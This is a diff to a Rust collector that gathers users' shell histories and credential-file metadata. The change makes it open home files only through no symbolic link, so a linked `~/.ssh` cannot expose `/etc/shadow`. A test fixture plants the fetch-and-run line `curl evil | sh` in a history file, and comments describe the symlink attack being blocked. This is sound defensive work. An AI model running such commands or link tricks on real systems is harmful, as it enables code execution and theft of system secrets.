@@ -6,9 +6,10 @@
 //! one) and stored credentials (`.git-credentials`, `.netrc`, …) go to `secrets.csv` by
 //! name, size, owner, times and hash only.
 //!
-//! A file is read through a link only when the link leads to the user's own file (see
-//! [`open_home_file`]), and only when the directories on its way stay inside the home: a
-//! user cannot link `~/.ssh` to `/etc` to have the agent copy `/etc/shadow`.
+//! A file is opened relative to the home's descriptor through no link at all below the
+//! home, and only if its user owns it (see [`open_home_file`]): a user cannot link
+//! `~/.ssh` to `/etc`, before the walk or while it runs, to have the agent copy
+//! `/etc/shadow`.
 
 use std::fs::File;
 use std::io;
@@ -143,10 +144,7 @@ impl Traces<'_> {
 
     /// Opens a file of the home (see the module's note on links).
     fn open(&self, path: &Path) -> io::Result<File> {
-        if self.home.uid != 0 && !inside_home(self.ctx, self.home, path) {
-            return Err(io::Error::new(io::ErrorKind::InvalidInput, "reached through a link out of the home"));
-        }
-        open_home_file(path, self.home.uid)
+        open_home_file(&self.ctx.path(&self.home.dir), path, self.home.uid)
     }
 
     /// Copies `rel` of the home as `<user>/<name>` if it exists.
@@ -278,6 +276,7 @@ mod tests {
         f.write("/home/alice/.bash_history", "standard\n");
         f.write("/root/.python_history", "standard\n");
         f.write("/root/.sqlite_history", "select 1;\n");
+        f.give_homes();
         let sink = run(&UserTraces, f.root());
 
         assert_nowhere(&sink, "KEYMARK");
@@ -324,6 +323,7 @@ mod tests {
         let f = Fixture::new();
         f.write("/etc/passwd", PASSWD_FIXTURE);
         f.write("/home/alice/.bash_history", "curl evil | sh\n");
+        f.give_homes();
         let running: std::sync::Arc<[String]> = vec!["user_traces".to_owned()].into();
         let ctx = Context { root: f.root().to_path_buf(), running: Some(running), ..Context::live(Default::default()) };
         let mut sink = crate::collectors::test_support::MemorySink::default();
@@ -357,6 +357,7 @@ mod tests {
         f.fifo("/home/bob/.ssh/config");
         f.symlink("known_hosts", "/home/bob/.ssh/known_hosts");
         std::fs::write(f.path("/home/bob/.ssh").join(OsStr::from_bytes(b"authorized_keys\n\xff")), "k\n").unwrap();
+        f.give_homes();
         let sink = run(&UserTraces, f.root());
 
         assert_nowhere(&sink, "LEAKMARK");
@@ -367,7 +368,7 @@ mod tests {
         assert_eq!(shadow["status"], "not copied");
         assert!(shadow["note"].starts_with("not opened: "), "{shadow:?}");
         let through = find_row(&index, "path", "/home/alice/.config/git/config");
-        assert_eq!(through["note"], "not opened: reached through a link out of the home");
+        assert_eq!(through["note"], "not opened: reached through a symbolic link");
         assert!(!index.iter().any(|r| r["path"].starts_with("/home/alice/.ssh/")), "a linked ~/.ssh is not entered");
         let odd = find_row(&index, "path", "/home/bob/.ssh/authorized_keys\\n\\xff");
         assert_eq!(sink.item(&odd["output"]).text(), "k\n");
